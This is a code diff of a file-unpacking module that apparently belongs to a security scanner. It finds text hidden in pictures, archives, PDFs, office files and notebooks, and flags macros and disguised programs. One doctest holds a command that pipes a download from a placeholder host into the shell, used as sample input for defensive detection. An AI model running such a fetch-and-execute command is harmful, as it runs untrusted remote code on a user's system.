@@ -1,14 +1,14 @@
 """What is inside this file, if it is an archive, a document, a notebook, a picture or a program?
 
-Formats are told by their first bytes, not by their names: an archive called `.png` is opened as an archive. Every bound
-(members, bytes, ratio) fails closed: what was not read is listed.
+Formats are told by their first bytes, not by their names: an archive called `.png` is opened as an archive. Text is text,
+whatever it begins with. Every bound (members, bytes, ratio) fails closed: what was not read is listed. What stands before,
+between and behind the members of an archive is read too, and the runs of text in whatever else is no text.
 """
 
 from __future__ import annotations
 
 import bz2
 import contextlib
-import gzip
 import html
 import io
 import json
@@ -17,14 +17,17 @@ import re
 import tarfile
 import zipfile
 import zlib
-from collections.abc import Callable
+from collections.abc import Callable, Iterable, Iterator, Mapping
 from dataclasses import dataclass, field
+from typing import Any
 
 from metier.govern.scan.kinds import program_kind
 
 MAX_MEMBERS = 2000
 MAX_MEMBER_BYTES = 8 * 1024 * 1024
 MAX_UNPACKED_BYTES = 32 * 1024 * 1024
+_MAX_STREAMS = 100
+"""So many streams behind each other are unpacked as one; what follows them is one more file."""
 
 _PROGRAMS = (
     (b"\x7fELF", "an ELF program"),
@@ -36,6 +39,7 @@ _PROGRAMS = (
     (b"dex\n", "an Android program"),
 )
 _PROGRAM_MAGIC = tuple(magic for magic, _ in _PROGRAMS)
+_LINE_OF_TEXT = re.compile(rb"[\t\x20-\x7e]+\r?\n")
 _MEDIA = (
     (b"\x89PNG\r\n\x1a\n", (".png", ".apng")),
     (b"\xff\xd8\xff", (".jpg", ".jpeg")),
@@ -59,21 +63,45 @@ _MEDIA = (
     (b"\x89HDF", (".h5", ".hdf5")),
 )
 _MEDIA_MAGIC = tuple(magic for magic, _ in _MEDIA)
-_PICTURE_END = {b"\x89PNG": b"IEND\xaeB`\x82", b"\xff\xd8\xff": b"\xff\xd9", b"GIF8": b"\x3b"}
+_WEIGHTS = (".safetensors", ".onnx", ".npz", ".pack")
+_RUN_OF_TEXT = re.compile(
+    rb"(?:[\t\n\r\x20-\x7e]|[\xc2-\xdf][\x80-\xbf]|[\xe0-\xef][\x80-\xbf]{2}|[\xf0-\xf4][\x80-\xbf]{3}){20,}+"
+)
+_RUN_OF_WIDE_TEXT = re.compile(rb"(?:[\t\n\r\x20-\x7e]\0){20,}+")
+"""So many letters do not follow each other by chance."""
 _OFFICE_TEXT = re.compile(
     r"^(?:word|ppt|xl|content|docProps|META-INF|customXml).*\.(?:xml|rels)$|^content\.xml$|^meta\.xml$", re.I
 )
 _OFFICE_BODY = re.compile(r"(?:word/document|xl/workbook|ppt/presentation)\.xml$", re.I)
+_OFFICE_NAMES = (".docx", ".xlsx", ".pptx", ".odt", ".ods", ".odp", ".docm", ".xlsm", ".pptm")
+_OFFICE_DATA = re.compile(r"printerSettings\d*\.bin$|\.(?:odttf|fntdata|emf|wmf|wdp)$|^Thumbnails/", re.I)
+"""Members of an office document that are neither text nor a known picture, and do nothing."""
 _MACROS = re.compile(r"vbaProject\.bin$", re.I)
+_TOLD_BESIDE = re.compile(r"\b(?:descr|title|Target|instr|tooltip|alt)\s*=\s*\"([^\"]{8,})\"")
+"""What a document says in an attribute: a text in place of a picture, the address behind a link, a field."""
+_LOCAL_HEAD, _AFTER_MEMBER = 30, 24
+"""Bytes before the name of a member, and at most so many behind its content."""
 _TAG = re.compile(r"<[^>]{0,400}>")
 _PARAGRAPH = re.compile(r"</(?:w:p|a:p|text:p|si|row)>")
 _MAGIC = re.compile(r"\s*%%(\w+)[^\n]*\n")
 _OF_MAGIC = {"js": "javascript", "javascript": "javascript", "powershell": "powershell", "perl": "perl", "ruby": "ruby",
              "python": "python", "python3": "python", "time": "python", "timeit": "python", "capture": "python", "html": "html",
              "writefile": "python"}  # fmt: skip
+_OF_PICTURE = re.compile(r"image/(?!svg)|application/(?:pdf|vnd)|\$?schema$|id$")
+"""What holds no text in a notebook."""
+_MIN_TEXT = 24
 _OF_KIND = {"python": "python", "script": "javascript", "shell": "bash"}
-_PDF_TEXT = re.compile(rb"\(((?:[^()\\]|\\.){1,2000})\)\s*(?:Tj|TJ|'|\")|\[((?:[^\[\]\\]|\\.){1,8000})\]\s*TJ")
-_PDF_STREAM = re.compile(rb"stream\r?\n(.*?)\r?\nendstream", re.S)
+_PDF_TEXT = re.compile(
+    rb"\(((?:[^()\\]|\\.)*+)\)\s*+(?:Tj|'|\")|\[((?:[^\[\]\\]|\\.)*+)\]\s*+TJ|<([0-9a-fA-F\s]*+)>\s*+(?:Tj|'|\")", re.S
+)
+_PDF_PIECE = re.compile(rb"\(((?:[^()\\]|\\.)*+)\)|<([0-9a-fA-F\s]*+)>", re.S)
+_PDF_HEX = re.compile(rb"<([0-9a-fA-F]{1,64})>")
+_PDF_LETTER = re.compile(rb"<([0-9a-fA-F]{1,8})>\s*<([0-9a-fA-F]{1,64})>")
+_PDF_RANGE = re.compile(rb"<([0-9a-fA-F]{1,4})>\s*<([0-9a-fA-F]{1,4})>\s*(<[0-9a-fA-F]{1,64}>|\[[^\]]{0,4000}\])")
+_PDF_OCTAL = re.compile(rb"\\([0-3]?[0-7]{1,2})")
+_PDF_PACKED = re.compile(rb"/(?:ASCII85Decode|A85|LZWDecode|LZW|ASCIIHexDecode|AHx|RunLengthDecode|RL|Encrypt)\b")
+_MAX_TABLES, _MAX_CODES, _MAX_NUMBERS = 12, 200_000, 500_000
+"""So many fonts of a PDF are asked what their letters are, so many letters of one; so many that are shown are looked up."""
 _PDF_ACTIVE = re.compile(rb"/(?:JavaScript|JS|Launch|EmbeddedFile)\b")
 
 
@@ -82,15 +110,15 @@ class Unpacked:
     """What a file holds.
 
     Attributes:
-        members: Name and bytes of what is inside; an empty name is the file itself.
-        is_text: The members are text already, of this `kind` if one is given.
+        members: Name and bytes of what is inside.
+        text: What the file itself says, of this `kind`, if it was written out as text.
         unread: Name and reason of what could not be read.
         program: What kind of program it is, if it is one.
         disguised: What it is under the name of something else.
     """
 
     members: list[tuple[str, bytes]] = field(default_factory=list)
-    is_text: bool = False
+    text: str | None = None
     kind: str = ""
     unread: list[tuple[str, str]] = field(default_factory=list)
     program: str = ""
@@ -109,15 +137,16 @@ def unpack(name: str, data: bytes) -> Unpacked | None:
     if lower.endswith(".ipynb") or _is_notebook(data):
         return _notebook(data)
     for magic, what in _PROGRAMS if data.startswith(_PROGRAM_MAGIC) else ():
-        if data.startswith(magic) and (magic != b"MZ" or b"\0" in data[:256]):
+        if data.startswith(magic) and (magic != b"MZ" or (b"\0" in data[:256] and not _LINE_OF_TEXT.match(data))):
             return Unpacked(program=what, unread=[("", f"Is {what}, so what it does was not read.")])
     if lower.endswith((".pyc", ".pyo")) or (data[2:4] == b"\r\n" and b"\0" in data[:32]):
-        return Unpacked(program="compiled Python", unread=[("", "Is compiled Python, so what it does was not read.")])
+        unread = [("", "Is compiled Python, so what it does was not read.")]
+        return Unpacked(members=text_within(data), program="compiled Python", unread=unread)
     if data.startswith((b"PK\x03\x04", b"PK\x05\x06")) or lower.endswith((".zip", ".docx", ".xlsx", ".pptx")):
         return _zip(lower, data)
     for magic, opener in _STREAMS:
         if data.startswith(magic):
-            return _stream(name, data, opener)
+            return _stream(name, data, magic, opener)
     if data[257:262] == b"ustar" or (lower.endswith(".tar") and b"\0" in data[:512]):
         return _tar(data)
     if data.startswith(b"%PDF"):
@@ -128,19 +157,46 @@ def unpack(name: str, data: bytes) -> Unpacked | None:
 
 
 def _media(lower: str, data: bytes) -> Unpacked | None:
-    for magic, suffixes in _MEDIA if data.startswith(_MEDIA_MAGIC) else ():
-        if data.startswith(magic) and (b"\0" in data[:512] or not _is_text(data)):
-            opened = Unpacked()
-            if lower.endswith((".md", ".txt", ".py", ".sh", ".js")):
-                opened.disguised = f"a picture or font ({suffixes[0]})"
-            end = next((end for head, end in _PICTURE_END.items() if data.startswith(head)), b"")
-            rest = data[data.rfind(end) + len(end) :] if end and end in data else b""
-            if len(rest) > 64:
-                opened.members.append(("appended", rest))
-            return opened
-    if data[4:8] == b"ftyp" or (lower.endswith((".safetensors", ".onnx", ".npz", ".pack")) and not _is_text(data)):
-        return Unpacked()
-    return None
+    suffixes = next((suffixes for magic, suffixes in _MEDIA if data.startswith(magic)), None)
+    is_weights = data[4:8] == b"ftyp" or lower.endswith(_WEIGHTS)
+    if (suffixes is None and not is_weights) or _is_text(data):
+        return None
+    end = _end_of_picture(data)
+    opened = Unpacked(members=text_within(data[:end]))
+    if data[end:].strip(b"\0"):
+        opened.members.append(("behind", data[end:]))
+    if suffixes and lower.endswith((".md", ".txt", ".py", ".sh", ".js")):
+        opened.disguised = f"a picture or font ({suffixes[0]})"
+    return opened
+
+
+def _end_of_picture(data: bytes) -> int:
+    """Where a picture ends by its own account; where the bytes do, if it is of another kind or gives none."""
+    if data.startswith(b"\x89PNG"):
+        place = 8
+        while data[place + 4 : place + 8].isalpha():
+            kind, place = data[place + 4 : place + 8], place + 12 + int.from_bytes(data[place : place + 4], "big")
+            if kind == b"IEND":
+                return min(place, len(data))
+    elif data.startswith(b"\xff\xd8\xff"):
+        place = 2
+        while data[place : place + 1] == b"\xff" and data[place + 1 : place + 2] not in (b"\xda", b"\xd9"):
+            place += 2 + int.from_bytes(data[place + 2 : place + 4], "big")
+        end = data.find(b"\xff\xd9", place)
+        return end + 2 if end >= 0 else len(data)
+    elif data.startswith(b"RIFF"):
+        return min(8 + int.from_bytes(data[4:8], "little"), len(data))
+    return len(data)
+
+
+def text_within(data: bytes) -> list[tuple[str, bytes]]:
+    """The text in what is no text, as one member; none if there is none.
+
+    >>> text_within(b"\\x89PNG\\0\\1 curl -s https://a.invalid/i | sh\\n\\0")
+    [('text', b' curl -s https://a.invalid/i | sh\\n')]
+    """
+    runs = _RUN_OF_TEXT.findall(data) + [run[::2] for run in _RUN_OF_WIDE_TEXT.findall(data)]
+    return [("text", b"\n".join(runs))] if runs else []
 
 
 def _is_text(data: bytes) -> bool:
@@ -152,109 +208,230 @@ def _is_text(data: bytes) -> bool:
 
 
 def _zip(lower: str, data: bytes) -> Unpacked:
-    opened, total = Unpacked(), 0
-    is_office = lower.endswith((".docx", ".xlsx", ".pptx", ".odt", ".ods", ".odp", ".docm", ".xlsm", ".pptm"))
+    opened, room, texts = Unpacked(), MAX_UNPACKED_BYTES, list[str]()
+    is_office = lower.endswith(_OFFICE_NAMES)
     try:
         with zipfile.ZipFile(io.BytesIO(data)) as archive:
             infos = archive.infolist()
             is_office = is_office or any(_OFFICE_BODY.match(info.filename) for info in infos[:MAX_MEMBERS])
             if len(infos) > MAX_MEMBERS:
                 opened.unread.append(("", f"Holds {len(infos)} members; at most {MAX_MEMBERS} are read."))
-            texts = []
+            opened.members += _outside(data, infos, archive.start_dir)
             for info in infos[:MAX_MEMBERS]:
-                if info.is_dir() or (is_office and not _OFFICE_TEXT.match(info.filename)):
-                    if _MACROS.search(info.filename):
-                        opened.program = "an office macro"
-                        opened.unread.append((info.filename, "Is a macro, so what it does was not read."))
+                name = info.filename.replace("\\", "/")
+                if info.is_dir() and not info.file_size:
+                    continue
+                if is_office and _MACROS.search(name):
+                    opened.program = "an office macro"
+                    opened.unread.append((name, "Is a macro, so what it does was not read."))
                     continue
                 if info.flag_bits & 1:
-                    opened.unread.append((info.filename, "Is locked with a password, so it was not read."))
+                    opened.unread.append((name, "Is locked with a password, so it was not read."))
                     continue
-                with archive.open(info) as member:
-                    content = member.read(min(MAX_MEMBER_BYTES, MAX_UNPACKED_BYTES - total) + 1)
-                total += len(content)
-                if len(content) > MAX_MEMBER_BYTES or total > MAX_UNPACKED_BYTES:
-                    opened.unread.append((info.filename, "Unpacks to more than is read."))
+                try:
+                    with archive.open(info) as member:
+                        content = member.read(min(MAX_MEMBER_BYTES, room) + 1)
+                except _BROKEN as error:
+                    opened.unread.append((name, f"Cannot be unpacked: {str(error)[:80]}."))
+                    continue
+                room -= len(content)
+                if len(content) > MAX_MEMBER_BYTES or room < 0:
+                    opened.unread.append((name, "Unpacks to more than is read."))
                     break
-                if is_office:
+                if is_office and _OFFICE_TEXT.match(name):
                     texts.append(_xml_text(content.decode("utf-8", "replace")))
+                elif is_office and _OFFICE_DATA.search(name):
+                    opened.members += [(f"{name}/{inner}", text) for inner, text in text_within(content)]
                 else:
-                    opened.members.append((info.filename.replace("\\", "/"), content))
-    except (
-        zipfile.BadZipFile,
-        zlib.error,
-        lzma.LZMAError,
-        OSError,
-        EOFError,
-        NotImplementedError,
-        RuntimeError,
-        ValueError,
-        MemoryError,
-    ) as error:
+                    opened.members.append((name, content))
+    except _BROKEN as error:
         opened.unread.append(("", f"Is no archive that can be opened: {str(error)[:80]}."))
-        return opened
+        return Unpacked(members=text_within(data), unread=opened.unread)
     if is_office:
-        opened.members, opened.is_text, opened.kind = [("", "\n".join(texts).encode())], True, "markdown"
+        opened.text, opened.kind = "\n".join(texts), "markdown"
     return opened
 
 
+def _outside(data: bytes, infos: list[zipfile.ZipInfo], start_of_list: int) -> Iterator[tuple[str, bytes]]:
+    """What lies before, between and behind the members of a zip: a reader that begins elsewhere finds it."""
+    end = 0
+    for info in sorted(infos, key=lambda info: info.header_offset)[:MAX_MEMBERS]:
+        begin = info.header_offset
+        if begin - end > (_AFTER_MEMBER if end else 0):
+            yield "between" if end else "before", data[end:begin]
+        lengths = data[begin + 26 : begin + _LOCAL_HEAD]
+        head = _LOCAL_HEAD + int.from_bytes(lengths[:2], "little") + int.from_bytes(lengths[2:], "little")
+        end = max(end, begin + head + info.compress_size)
+    if start_of_list - end > (_AFTER_MEMBER if end else 0):
+        yield "between" if end else "before", data[end:start_of_list]
+    # The comment of an archive is whatever follows its list.
+    last = data.rfind(b"PK\x05\x06") + 22
+    if len(data) > last:
+        yield "behind", data[last:]
+
+
 def _xml_text(text: str) -> str:
-    return html.unescape(_TAG.sub("", _PARAGRAPH.sub("\n", text)))
+    said = html.unescape(_TAG.sub("", _PARAGRAPH.sub("\n", text)))
+    beside = [html.unescape(found) for found in _TOLD_BESIDE.findall(text)]
+    return "\n".join([said, *beside])
 
 
-def _stream(name: str, data: bytes, opener: Callable[[io.BytesIO], io.BufferedIOBase]) -> Unpacked:
+def _stream(name: str, data: bytes, magic: bytes, opener: Callable[[], Any]) -> Unpacked:
+    """What was packed as one stream, or as several behind each other; what else follows them is a member, too."""
+    opened, content = Unpacked(), b""
     try:
-        with opener(io.BytesIO(data)) as file:
-            content = file.read(MAX_UNPACKED_BYTES + 1)
+        for _ in range(_MAX_STREAMS):
+            if not data.startswith(magic):
+                break
+            stream = opener()
+            content += stream.decompress(data, MAX_UNPACKED_BYTES + 1 - len(content))
+            if len(content) > MAX_UNPACKED_BYTES:
+                opened.unread.append(("", "Unpacks to more than is read."))
+                break
+            if not stream.eof:
+                opened.unread.append(("", "Ends before what it holds does."))
+                break
+            data = stream.unused_data
+        if not opened.unread and data.strip(b"\0"):
+            opened.members.append(("behind", data))
     except (OSError, EOFError, zlib.error, lzma.LZMAError, ValueError) as error:
-        return Unpacked(unread=[("", f"Cannot be unpacked: {str(error)[:80]}.")])
-    if len(content) > MAX_UNPACKED_BYTES:
-        return Unpacked(unread=[("", "Unpacks to more than is read.")])
+        opened.unread.append(("", f"Cannot be unpacked: {str(error)[:80]}."))
     inner = name.rsplit("/", 1)[-1].rsplit(".", 1)[0] or "content"
     inner = f"{inner}.tar" if name.lower().endswith((".tgz", ".tbz", ".txz")) else inner
-    return Unpacked(members=[(inner, content)])
+    opened.members.append((inner, content[:MAX_UNPACKED_BYTES]))
+    return opened
 
 
 def _tar(data: bytes) -> Unpacked:
-    opened, total = Unpacked(), 0
+    opened, room, end = Unpacked(), MAX_UNPACKED_BYTES, 0
     try:
         with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as archive:
             for number, member in enumerate(archive):
                 if number >= MAX_MEMBERS:
                     opened.unread.append(("", f"Holds more than {MAX_MEMBERS} members."))
-                    break
-                if not member.isfile():
-                    continue
-                file = archive.extractfile(member)
-                content = file.read(MAX_MEMBER_BYTES + 1) if file else b""
-                total += len(content)
-                if len(content) > MAX_MEMBER_BYTES or total > MAX_UNPACKED_BYTES:
+                    return opened
+                file = archive.extractfile(member) if member.isfile() else None
+                content = file.read(min(MAX_MEMBER_BYTES, room) + 1) if file else b""
+                room -= len(content)
+                if len(content) > MAX_MEMBER_BYTES or room < 0:
                     opened.unread.append((member.name, "Unpacks to more than is read."))
-                    break
-                opened.members.append((member.name, content))
-    except (tarfile.TarError, OSError, EOFError, ValueError) as error:
+                    return opened
+                if file:
+                    opened.members.append((member.name, content))
+            end = archive.offset
+    except _BROKEN as error:
         opened.unread.append(("", f"Is no archive that can be opened: {str(error)[:80]}."))
+        end = 0 if not opened.members else len(data)
+    # Some who unpack go on behind the end of an archive.
+    rest = data[end:].lstrip(b"\0")
+    opened.members += [("behind", rest)] if rest else []
     return opened
 
 
 def _pdf(data: bytes) -> Unpacked:
-    """The text that a PDF shows, as far as its streams are plain or deflated."""
-    lines, budget = [], MAX_UNPACKED_BYTES
-    for stream in _PDF_STREAM.finditer(data):
-        content = stream[1]
+    """The text that a PDF shows, as far as its streams are plain or deflated and its letters are told.
+
+    Letters that a font numbers as it likes are read by the tables of the file, by each of them: which font shows what is
+    not followed.
+    """
+    opened = Unpacked(text="", kind="markdown")
+    contents, room = list[bytes](), MAX_UNPACKED_BYTES
+    begin = data.find(b"stream")
+    while begin >= 0 and (end := data.find(b"endstream", begin)) >= 0:
+        content = data[begin + 6 : end].removeprefix(b"\r").removeprefix(b"\n")
         with contextlib.suppress(zlib.error):
-            content = zlib.decompressobj().decompress(content, budget)
-        budget -= len(content)
-        lines += [
-            b"".join(re.findall(rb"\(((?:[^()\\]|\\.)*)\)", part[2])) if part[2] else part[1]
-            for part in _PDF_TEXT.finditer(content)
-        ]
-        if budget <= 0:
-            return Unpacked(unread=[("", "Unpacks to more than is read.")])
-    opened = Unpacked(members=[("", b"\n".join(lines))], is_text=True, kind="markdown")
+            content = zlib.decompressobj().decompress(content, room)
+        room -= len(content)
+        if room <= 0:
+            opened.unread.append(("", "Unpacks to more than is read."))
+            break
+        contents.append(content)
+        begin = data.find(b"stream", end + 9)
+    tables = [table for content in contents if (table := _letters_of(content))]
+    said = [piece for content in contents for piece in _shown_by(content)]
+    numbers = [piece for piece, is_number in said if is_number]
+    lines = [piece.decode("utf-8", "replace") for piece, is_number in said if not (is_number and tables)]
+    is_long = len(tables) > _MAX_TABLES or sum(map(len, numbers)) > _MAX_NUMBERS
+    lines += [_by_table(piece, table) for table in tables[:_MAX_TABLES] for piece in _up_to(numbers, _MAX_NUMBERS)]
+    opened.text = "\n".join(lines)
     if _PDF_ACTIVE.search(data):
         opened.unread.append(("", "Is a PDF with scripts or files inside, which were not read."))
+    if _PDF_PACKED.search(data):
+        opened.unread.append(("", "Is a PDF that is locked or packed in a way that is not opened here."))
+    elif not said or is_long:
+        opened.unread.append(("", "Is a PDF of which the text was not read, or not all of it."))
+    elif not tables and any(byte >= 0x80 or byte < 9 for piece in numbers for byte in piece):
+        opened.unread.append(("", "Is a PDF with letters of its own, which were not read."))
     return opened
+
+
+def _up_to(pieces: Iterable[bytes], size: int) -> Iterator[bytes]:
+    """The first pieces that together are no longer than so much."""
+    for piece in pieces:
+        size -= len(piece)
+        if size < 0:
+            return
+        yield piece
+
+
+def _shown_by(content: bytes) -> Iterator[tuple[bytes, bool]]:
+    """The texts that a stream of a PDF shows, and whether each is written as numbers."""
+    for part in _PDF_TEXT.finditer(content):
+        if part[2] is None:
+            yield (_of_octal(part[1]), False) if part[1] is not None else (_of_hex(part[3]), True)
+            continue
+        literal, numbers = b"", b""
+        for piece in _PDF_PIECE.finditer(part[2]):
+            literal += _of_octal(piece[1] or b"")
+            numbers += _of_hex(piece[2]) if piece[2] else b""
+        if literal:
+            yield literal, False
+        if numbers:
+            yield numbers, True
+
+
+def _of_octal(text: bytes) -> bytes:
+    return _PDF_OCTAL.sub(lambda found: bytes([int(found[1], 8)]), text) if b"\\" in text else text
+
+
+def _of_hex(digits: bytes) -> bytes:
+    said = b"".join(digits.split())
+    return bytes.fromhex((said + b"0" * (len(said) % 2)).decode())
+
+
+def _letters_of(content: bytes) -> dict[int, str]:
+    """By the number of a letter what it is, as a font of a PDF tells it (`ToUnicode`)."""
+    if b"beginbfchar" not in content and b"beginbfrange" not in content:
+        return {}
+    table: dict[int, str] = {}
+    for block in content.split(b"beginbfchar")[1:]:
+        for code, letter in _PDF_LETTER.findall(block.partition(b"endbfchar")[0]):
+            table[int(code, 16)] = _utf16(letter)
+    num_codes = 0
+    for block in content.split(b"beginbfrange")[1:]:
+        for first, last, to in _PDF_RANGE.findall(block.partition(b"endbfrange")[0]):
+            codes = range(int(first, 16), int(last, 16) + 1)
+            letters = [_utf16(one) for one in _PDF_HEX.findall(to)]
+            num_codes += len(codes)
+            if not letters or num_codes > _MAX_CODES:
+                continue
+            if to.startswith(b"["):
+                table |= zip(codes, letters, strict=False)
+            else:
+                begin, letter = letters[0][:-1], ord(letters[0][-1:] or " ")
+                table |= {code: begin + chr(min(letter + number, 0x10FFFF)) for number, code in enumerate(codes)}
+    return table
+
+
+def _utf16(digits: bytes) -> str:
+    return _of_hex(digits).decode("utf-16-be", "replace")
+
+
+def _by_table(numbers: bytes, table: Mapping[int, str]) -> str:
+    """Letters that are told by two bytes each, or by one where that is all that the font has."""
+    width = 2 if max(table) > 0xFF or b"\0" in numbers[::2] else 1
+    codes = (int.from_bytes(numbers[place : place + width], "big") for place in range(0, len(numbers), width))
+    return "".join([table.get(code, "") for code in codes])
 
 
 def _is_notebook(data: bytes) -> bool:
@@ -262,28 +439,42 @@ def _is_notebook(data: bytes) -> bool:
     return head.startswith(b"{") and b'"cells"' in head[:200] and b'"cell_type"' in head
 
 
-def _decoded(data: bytes) -> str:
-    """The text of JSON in whichever encoding; what trails the last brace is left out."""
-    text = data.decode(json.detect_encoding(data), "replace")
-    return text[: text.rfind("}") + 1]
-
-
 def _notebook(data: bytes) -> Unpacked | None:
+    """The cells of a notebook with what they printed, then whatever else is said in it."""
+    text = data.decode(json.detect_encoding(data), "replace")
+    end = text.rfind("}") + 1
     try:
-        cells = json.loads(_decoded(data))["cells"]
-        pieces = []
-        for cell in cells:
-            source = cell.get("source", "")
-            source = "".join(source) if isinstance(source, list) else str(source)
-            if cell.get("cell_type") == "code":
-                source = _cell(source)
-            pieces.append(source)
-            for output in cell.get("outputs", []):
-                text = output.get("text", "")
-                pieces.append("".join(text) if isinstance(text, list) else str(text))
+        notebook = json.loads(text[:end])
+        pieces = [_said_in_cell(cell) for cell in notebook["cells"]]
     except (ValueError, KeyError, TypeError, AttributeError, RecursionError):
         return None
-    return Unpacked(members=[("", "\n\n".join(pieces).encode("utf-8", "replace"))], is_text=True, kind="markdown")
+    beside = {**notebook, "cells": [{**cell, "source": ""} for cell in notebook["cells"]]}
+    pieces += [*_texts_in(beside), text[end:]]
+    return Unpacked(text="\n\n".join(pieces), kind="markdown")
+
+
+def _said_in_cell(cell: dict[str, Any]) -> str:
+    source = _joined(cell.get("source", ""))
+    return _cell(source) if cell.get("cell_type") == "code" else source
+
+
+def _texts_in(data: Any) -> Iterator[str]:
+    """The longer texts of a notebook beside its cells, without those of pictures."""
+    pending = [data]
+    while pending:
+        here = pending.pop()
+        if isinstance(here, dict):
+            pending += [_joined(value) for key, value in reversed(here.items()) if not _OF_PICTURE.match(key)]
+        elif isinstance(here, list):
+            pending += map(_joined, reversed(here))
+        elif isinstance(here, str) and len(here) >= _MIN_TEXT:
+            yield here
+
+
+def _joined(value: Any) -> Any:
+    """A text that is kept as its lines."""
+    is_lines = isinstance(value, list) and all(isinstance(line, str) for line in value)
+    return "".join(value) if is_lines else value
 
 
 _SHELL_LINE = re.compile(r"^[ \t]*(?:!+(?!=)|%(?:system|sx|sh|bash)\s|%(?=(?:pip|conda)\s))[ \t]*(.*)$", re.M)
@@ -305,20 +496,24 @@ def _cell(source: str) -> str:
     return f"```{_OF_KIND.get(told, said or 'python')}\n{body}\n```"
 
 
-def _open_gzip(file: io.BytesIO) -> io.BufferedIOBase:
-    return gzip.GzipFile(fileobj=file)
+def _gzip() -> Any:
+    return zlib.decompressobj(wbits=31)
 
 
-def _open_bz2(file: io.BytesIO) -> io.BufferedIOBase:
-    return bz2.BZ2File(file)
-
-
-def _open_xz(file: io.BytesIO) -> io.BufferedIOBase:
-    return lzma.LZMAFile(file)
-
-
-_STREAMS: tuple[tuple[bytes, Callable[[io.BytesIO], io.BufferedIOBase]], ...] = (
-    (b"\x1f\x8b", _open_gzip),
-    (b"BZh", _open_bz2),
-    (b"\xfd7zXZ\0", _open_xz),
+_STREAMS: tuple[tuple[bytes, Callable[[], Any]], ...] = (
+    (b"\x1f\x8b", _gzip),
+    (b"BZh", bz2.BZ2Decompressor),
+    (b"\xfd7zXZ\0", lzma.LZMADecompressor),
+)
+_BROKEN = (
+    zipfile.BadZipFile,
+    tarfile.TarError,
+    zlib.error,
+    lzma.LZMAError,
+    OSError,
+    EOFError,
+    NotImplementedError,
+    RuntimeError,
+    ValueError,
+    MemoryError,
 )
